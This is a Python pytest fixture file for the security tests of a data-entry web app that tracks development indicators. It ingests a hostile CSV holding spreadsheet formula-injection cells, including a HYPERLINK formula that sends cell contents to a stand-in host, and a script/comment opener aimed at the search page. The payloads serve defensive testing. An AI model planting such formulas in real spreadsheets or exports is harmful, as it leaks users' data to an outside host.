"""One data-entry app shared by the security tests that do not change who owns what (building it
signs in every role: argon2 hashes cost a few seconds)."""

from __future__ import annotations

import pytest

from ..web_entry_app import build


@pytest.fixture(scope="session")
def entry(tmp_path_factory):
    built = build(tmp_path_factory.mktemp("security") / "entry.duckdb")
    yield built
    built.ws.close()


# Cells a spreadsheet would run, in the places a hostile upload or repository can put text.
FORMULA_SEX = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_UNIT = "@SUM(1+1)"
DESCRIPTION = "Under-five deaths <!--<script> (a comment opener once broke the search page)"
HOSTILE_ROWS = (
    "series,area,year,value,unit,indicator,series_description,Sex\n"
    f'SH_DYN_MORT,RWA,2015,-3.5,"{FORMULA_UNIT}",3.2.1,,\n'
    f'SH_DYN_MORT,RWA,2015,-2,"{FORMULA_UNIT}",3.2.1,,"{FORMULA_SEX.replace(chr(34), chr(34) * 2)}"\n'
    f'SH_DYN_MORT,RWA,2016,4,"{FORMULA_UNIT}",3.2.1,,\n'
    f"XX_HOSTILE,RWA,2016,1,,3.2.1,{DESCRIPTION},\n"
)


@pytest.fixture(scope="session")
def live(tmp_path_factory):
    """The whole app (`create_app`: read API, live site, data entry) over a store holding formula
    text, with an admin (bearer token) and an editor."""
    from types import SimpleNamespace

    from fastapi.testclient import TestClient

    from sdgtrack.web.app import create_app
    from sdgtrack.workspace import Workspace

    from ..web_entry_app import PASSWORD

    path = tmp_path_factory.mktemp("live") / "live.duckdb"
    rows = path.with_name("hostile.csv")
    rows.write_text(HOSTILE_ROWS, encoding="utf-8")
    with Workspace(path) as ws:
        ws.ingest(rows, dataset="hostile")
    app = create_app(path)
    ws = app.state.workspace
    ws.accounts.add_user("boss", role="admin", entity="A", password=PASSWORD, actor="test")
    ws.accounts.add_user("ed", role="editor", entity="A", password=PASSWORD, actor="test")
    tokens = {name: ws.accounts.add_token(name, label="t", actor="test")[1] for name in ("boss", "ed")}
    with TestClient(app) as client:
        yield SimpleNamespace(app=app, ws=ws, client=client, path=path, tokens=tokens)
    app.state.site._lister.shutdown(wait=True)  # a site listing for the last store state may still run
    app.state.owner.close()
